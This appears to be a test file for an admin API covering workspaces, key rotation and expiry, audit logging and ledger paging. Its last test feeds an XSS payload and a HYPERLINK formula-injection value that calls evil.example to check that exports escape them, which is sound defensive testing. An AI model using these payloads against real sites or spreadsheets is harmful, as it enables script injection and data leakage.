/** Workspaces and keys through the admin API, and their entries in the audit log. */
import t from 'tap'
import type { ReplyOf } from '../../src/api/admin/operations.js'
import { audit, isBalanced } from '../helpers/audit.js'
import { withAdmin } from '../helpers/admin-server.js'
import { bookingOf } from '../helpers/booking.js'
import { oi } from '../helpers/command.js'
import { until } from '../helpers/until.js'

type Workspace = ReplyOf<'getWorkspace'>
type NewKey = ReplyOf<'createKey'>
type Key = ReplyOf<'getKey'>
type Audit = ReplyOf<'getAudit'>

t.test('an archived workspace keeps everything, and its keys are refused', (t) =>
  withAdmin(t, {}, async ({ admin, accounts, post, workspaceId }) => {
    const { secret, id } = accounts.createKey('default', 'second')
    t.equal((await post(secret)).status, 200)
    const path = `/workspaces/${workspaceId}`
    const archived = await admin.done<Workspace>('PATCH', path, { archived: true })
    t.match(archived, { name: 'default', archived_at: String, active_keys: 2 })
    const refused = await post(secret)
    t.equal(refused.status, 401)
    t.match(await refused.json(), { error: { message: /The workspace default is archived/ } })
    // Again: since the first time.
    t.strictSame(await admin.done('PATCH', path, { archived: true }), archived)
    const named = { body: { workspace_id: workspaceId, name: 'third' } }
    t.match(await admin.refused(409, 'conflict', 'POST', '/keys', named), /default is archived/)
    await admin.refused(409, 'conflict', 'POST', '/workspaces', { body: { name: 'default' } })
    const ask = { state: 's', questions: {}, workspace_id: workspaceId }
    await admin.refused(409, 'conflict', 'POST', '/decide', { body: ask })

    t.match(await admin.done('PATCH', path, { archived: false }), { archived_at: null })
    t.equal((await post(secret)).status, 200)
    t.match(await admin.done('GET', `/keys/${id}`), { state: 'active' })
    const { entries } = await admin.done<Audit>('GET', '/audit?limit=1')
    t.match(entries, [{ action: 'workspace.change', before: { archived: true } }])
  }),
)

t.test('a workspace is made with limits and a budget, changed, and given credits', (t) =>
  withAdmin(t, {}, async ({ admin, accounts, dataDir }) => {
    const budget = { tokens: 1000, period: 'week' as const }
    const limits = { requests_per_minute: 10 }
    const made = await admin.done<Workspace>('POST', '/workspaces', {
      name: 'shop',
      limits,
      budget,
    })
    t.match(made, {
      name: 'shop',
      limits: { requests_per_minute: 10, concurrent: 256 },
      budget: { ...budget, used_tokens: 0, remaining_tokens: 1000 },
      balance: null,
      active_keys: 0,
    })
    t.equal(new Date(made.budget!.resets_at).getUTCDay(), 1, 'a week begins on Monday')
    const path = `/workspaces/${made.id}`
    t.strictSame(await admin.done('GET', path), made)
    t.match(await admin.done('PATCH', path, { limits: { concurrent: 3 } }), {
      ...made,
      limits: { requests_per_minute: 10, concurrent: 3 },
    })
    t.match(await admin.done('PATCH', path, { name: 'store', budget: null }), {
      name: 'store',
      budget: null,
    })
    t.match(await admin.done('POST', `${path}/credit`, { amount: 5_000_000 }), {
      balance: 5_000_000,
    })
    t.match(await admin.done('POST', `${path}/credit`, { amount: -1 }), { balance: 4_999_999 })
    t.ok(isBalanced(audit(dataDir, 'store')))
    t.match(await admin.done('POST', `${path}/credit`, { unlimited: true }), { balance: null })
    t.equal(accounts.workspaces.get('store').concurrent, 3)

    await admin.refused(409, 'conflict', 'PATCH', path, { body: { name: 'default' } })
    await admin.refused(409, 'conflict', 'POST', '/workspaces', { body: { name: 'store' } })
    await admin.refused(404, 'not_found', 'GET', '/workspaces/99')
    await admin.refused(404, 'not_found', 'PATCH', '/workspaces/99', { body: { name: 'x' } })
    const nothing = { body: { amount: 0 } }
    await admin.refused(400, 'invalid_request', 'POST', `${path}/credit`, nothing)
    const odd = { body: { name: 'line\nbreak' } }
    await admin.refused(400, 'invalid_request', 'POST', '/workspaces', odd)
    const { workspaces } = await admin.done<{ workspaces: Workspace[] }>('GET', '/workspaces')
    const names = workspaces.map(({ name }) => name)
    t.strictSame(names, ['default', 'store'], 'nothing that failed has changed anything')
  }),
)

t.test('a key is made, used, blocked, unblocked, and revoked', (t) =>
  withAdmin(t, {}, async ({ admin, accounts, workspaceId, post }) => {
    const asked = { workspace_id: workspaceId, name: 'web' }
    const made = await admin.done<NewKey>('POST', '/keys', asked)
    t.match(made, { state: 'active', last_used_at: null, expires_at: null, models: null })
    t.equal(made.hint, `oi-…${made.secret.slice(-4)}`)
    const path = `/keys/${made.id}`
    const listed = await admin.ask('GET', '/keys')
    t.notOk(listed.text.includes(made.secret), 'the secret is shown once')
    t.equal((await post(made.secret)).status, 200)
    const isUsed = () => accounts.keys.get(made.id).usedMs !== null
    await until(isUsed)
    t.type((await admin.done<Key>('GET', path)).last_used_at, 'string')

    t.match(await admin.done('PATCH', path, { name: 'shop', blocked: true }), {
      ...{ name: 'shop', blocked: true, state: 'blocked' },
    })
    const blocked = await post(made.secret)
    t.equal(blocked.status, 401)
    t.match(await blocked.text(), /blocked/)
    t.match(await admin.done('PATCH', path, { blocked: false }), { state: 'active' })
    t.equal((await post(made.secret)).status, 200)
    t.match(await admin.done('DELETE', path), { state: 'revoked' })
    t.equal((await post(made.secret)).status, 401)
    await admin.refused(409, 'conflict', 'PATCH', path, { body: { blocked: false } })
    await admin.refused(409, 'conflict', 'POST', `${path}/rotate`, { body: { overlap_seconds: 1 } })
    await admin.refused(404, 'not_found', 'DELETE', '/keys/99')
    const elsewhere = { body: { ...asked, workspace_id: 99 } }
    await admin.refused(404, 'not_found', 'POST', '/keys', elsewhere)
    const query = await admin.done<{ keys: Key[] }>('GET', `/keys?workspace_id=${workspaceId}`)
    t.equal(query.keys.length, 2)
    await admin.refused(404, 'not_found', 'GET', '/keys?workspace_id=99')
  }),
)

t.test('a rotated key is valid beside the new one for a while, and then refused', (t) =>
  withAdmin(t, {}, async ({ admin, workspaceId, post }) => {
    const models = ['stub']
    const asked = { workspace_id: workspaceId, name: 'web', models }
    const old = await admin.done<NewKey>('POST', '/keys', asked)
    const path = `/keys/${old.id}`
    const next = await admin.done<NewKey>('POST', `${path}/rotate`, { overlap_seconds: 2 })
    t.match(next, { name: 'web', workspace_id: workspaceId, models, expires_at: null })
    t.not(next.secret, old.secret)
    t.match(await admin.done('GET', path), { state: 'active', replaced_by: next.id })
    t.equal((await post(old.secret)).status, 200)
    t.equal((await post(next.secret)).status, 200)
    const twice = { body: { overlap_seconds: 1 } }
    await admin.refused(409, 'conflict', 'POST', `${path}/rotate`, twice)
    await until(async () => (await post(old.secret)).status !== 200)
    const late = await post(old.secret)
    t.equal(late.status, 401)
    t.match(await late.text(), /expired/)
    t.equal((await post(next.secret)).status, 200)
    t.match(await admin.done('GET', path), { state: 'expired' })
    const last = await admin.done<NewKey>('POST', `/keys/${next.id}/rotate`, { overlap_seconds: 0 })
    t.equal((await post(next.secret)).status, 401)
    t.equal((await post(last.secret)).status, 200)
  }),
)

t.test('an expiry must be in the future, and the key expires by it', (t) =>
  withAdmin(t, {}, async ({ admin, workspaceId, post }) => {
    const asked = { workspace_id: workspaceId, name: 'web' }
    for (const [expires_at, status] of [
      ['2020-01-01T00:00:00Z', 400],
      ['2020-01-01', 422],
      ['soon', 422],
      ['2020-13-01T00:00:00Z', 422],
    ] as const) {
      const sent = { body: { ...asked, expires_at } }
      await admin.refused(status, 'invalid_request', 'POST', '/keys', sent)
    }
    const expires_at = new Date(Date.now() + 1500).toISOString()
    const key = await admin.done<NewKey>('POST', '/keys', { ...asked, expires_at })
    t.equal(key.expires_at, expires_at)
    t.equal((await post(key.secret)).status, 200)
    await until(() => Date.now() >= Date.parse(expires_at))
    t.equal((await post(key.secret)).status, 401)
    t.match(await admin.done('PATCH', `/keys/${key.id}`, { expires_at: null }), { state: 'active' })
    t.equal((await post(key.secret)).status, 200)
  }),
)

t.test('every change is in the audit log: who, what, before, after, when', (t) =>
  withAdmin(t, {}, async ({ admin, workspaceId, accounts, dataDir }) => {
    const key = await admin.done<NewKey>('POST', '/keys', {
      ...{ workspace_id: workspaceId, name: 'web' },
    })
    await admin.done('PATCH', `/keys/${key.id}`, { name: 'shop' })
    await admin.done('PATCH', `/workspaces/${workspaceId}`, { limits: { concurrent: 7 } })
    await admin.done('PUT', '/prices', { model: 'stub', input: 5 })
    t.equal((await oi(['keys', 'revoke', String(key.id), '--data', dataDir])).code, 0)
    const { entries, next_before } = await admin.done<Audit>('GET', '/audit?limit=5')
    const by = { actor: 'console', actor_detail: '127.0.0.1' }
    t.match(entries, [
      {
        actor: 'command',
        action: 'key.revoke',
        before: { revoked: false },
        after: { revoked: true },
      },
      { ...by, action: 'price.set', target_name: 'stub', before: null, after: { input: 5 } },
      { ...by, action: 'workspace.change', before: { concurrent: 256 }, after: { concurrent: 7 } },
      { ...by, action: 'key.change', target: `key ${key.id}`, before: { name: 'web' } },
      { ...by, action: 'key.create', before: null, after: { name: 'web', workspace: 'default' } },
    ])
    t.ok(entries.every(({ time }) => Math.abs(Date.parse(time) - Date.now()) < 60_000))
    const older = await admin.done<Audit>('GET', `/audit?before=${next_before}`)
    t.match(older.entries, [
      { action: 'session.begin' },
      { action: 'key.create', actor: 'server', target_name: 'first' },
      { action: 'workspace.create', actor: 'server' },
    ])
    t.equal(older.next_before, null)
    const whole = await admin.ask('GET', '/audit')
    t.notOk(whole.text.includes(key.secret))
    // Failed changes have no entry.
    const count = accounts.audit.page(1000).entries.length
    await admin.refused(409, 'conflict', 'PATCH', `/keys/${key.id}`, { body: { name: 'x' } })
    t.equal(accounts.audit.page(1000).entries.length, count)
  }),
)

t.test('ten thousand rows of the ledger are read in pages, each once, newest first', (t) =>
  withAdmin(t, {}, async ({ admin, accounts, workspaceId, keyId }) => {
    accounts.credits.add(workspaceId, 1_000_000_000)
    const { id: other } = accounts.workspaces.create('other')
    accounts.credits.add(other, 1000)
    for (let i = 0; i < 10_000; i++) {
      const timeMs = Date.UTC(2026, 0, 31) + Math.floor(i / 3)
      void accounts.ledger.book({ ...bookingOf(workspaceId, 1), keyId, timeMs }, false)
      if (i % 1000 === 0) void accounts.ledger.book(bookingOf(other, 1), false)
    }
    await until(() => accounts.ledger.flush())
    const seen = new Set<string>()
    const times: string[] = []
    const amounts = new Set<number>()
    let slowest = 0
    let before: string | null = ''
    while (before !== null) {
      const query: string = before === '' ? '?limit=300' : `?limit=300&before=${before}`
      const startMs = performance.now()
      const page: ReplyOf<'getLedger'> = await admin.done(
        'GET',
        `/workspaces/${workspaceId}/ledger${query}`,
      )
      slowest = Math.max(slowest, performance.now() - startMs)
      t.ok(page.rows.length <= 300)
      for (const { id, time, kind, amount } of page.rows) {
        seen.add(id)
        times.push(time)
        if (kind === 'usage') amounts.add(amount)
      }
      before = page.next_before
    }
    t.equal(seen.size, 10_001)
    t.equal(times.length, 10_001)
    t.strictSame([...amounts], [-1])
    t.strictSame(times, [...times].sort().reverse())
    t.ok(slowest < 2000, `${slowest} ms`)
    const path = `/workspaces/${other}/ledger?limit=1000`
    t.equal((await admin.done<ReplyOf<'getLedger'>>('GET', path)).rows.length, 11)
    const first = await admin.done<ReplyOf<'getLedger'>>('GET', `/workspaces/${workspaceId}/ledger`)
    t.match(first.rows[0], { kind: 'credit', key: null, model: null, amount: 1_000_000_000 })
    t.match(first.rows[1], { kind: 'usage', key: 'first', key_id: keyId, model: 'm', cost: 1 })
    for (const wrong of ['1', '1-2', 'a-b-c']) {
      await admin.refused(400, 'invalid_request', 'GET', `${path}&before=${wrong}`)
    }
  }),
)

t.test('names that are scripts are only names, in every reply and file', (t) =>
  withAdmin(t, {}, async ({ admin, accounts }) => {
    const name = `"><script>alert(1)</script><img src=x onerror=alert(1)>'--`
    const { id } = await admin.done<Workspace>('POST', '/workspaces', { name })
    const formula = '=HYPERLINK("http://evil.example?"&A1,"x")'
    const key = await admin.done<NewKey>('POST', '/keys', { workspace_id: id, name: formula })
    const booking = { ...bookingOf(id, 1), keyId: key.id, timeMs: Date.now() }
    void accounts.ledger.book(booking, false)
    for (const path of ['/workspaces', '/keys', '/audit', '/usage', '/usage?by=key']) {
      const reply = await admin.ask('GET', path)
      t.equal(reply.headers.get('content-type'), 'application/json', path)
      t.equal(reply.headers.get('x-content-type-options'), 'nosniff')
      t.match(reply.headers.get('content-security-policy'), "default-src 'none'")
    }
    t.equal((await admin.done<Workspace>('GET', `/workspaces/${id}`)).name, name)
    const csv = await admin.ask('GET', '/usage?by=key&format=csv')
    t.match(csv.headers.get('content-disposition'), /^attachment; filename="[\w.-]+"$/)
    // A spreadsheet reads it as text.
    t.match(csv.text, `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`)
    // Also spreadsheets that split cells at semicolons, or know full-width characters.
    for (const [key, text] of [
      ['a;=1+1', `a;'=1+1`],
      ['＝1+1', `'＝1+1`],
      ['a=1+1', 'a=1+1'],
    ] as const) {
      const body = { workspace_id: id, name: key }
      const { id: keyId } = await admin.done<NewKey>('POST', '/keys', body)
      void accounts.ledger.book({ ...booking, keyId }, false)
      const { text: lines } = await admin.ask('GET', '/usage?by=key&format=csv')
      t.ok(lines.includes(`,${keyId},${text},`), lines)
    }
  }),
)
